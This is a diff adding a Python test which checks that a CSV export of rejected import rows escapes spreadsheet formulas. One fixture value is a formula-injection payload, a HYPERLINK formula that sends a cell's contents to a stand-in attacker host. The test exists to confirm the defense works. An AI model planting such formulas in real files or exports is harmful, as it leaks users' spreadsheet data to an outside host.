@@ -496,6 +496,21 @@ def test_what_was_rejected_can_be_mended_and_imported() -> None:
     assert [tuple(json.loads(body)) for body in bodies] == [COLUMNS, COLUMNS]
 
 
+def test_no_spreadsheet_carries_out_what_was_rejected() -> None:
+    said = {"name": "@SUM(1)", "message": '=HYPERLINK("https://evil.example?" & A1)'}
+    first = take([a_row(phone="+12", **said)])
+    header, bad = csv.reader(io.StringIO(first.rejected_csv, newline=""))
+    shown = dict(zip(header, bad, strict=True))
+    assert {name: shown[name] for name in said} == {name: f"'{said[name]}" for name in said}
+    assert shown["phone"] == "+12"
+    mended = first.rejected_csv.replace(",+12,", ",+13155580001,")
+    assert run.import_csv_rows(mended.encode(), actor=OPERATOR, now=LATER).added == 1
+    assert take([a_row(phone="+13155580001", **said)]).repeated == 1
+    with reader() as session:
+        body = json.loads(session.exec(select(Submission.body)).one())
+    assert {name: body[name] for name in said} == said
+
+
 @pytest.mark.parametrize(
     "written",
     [
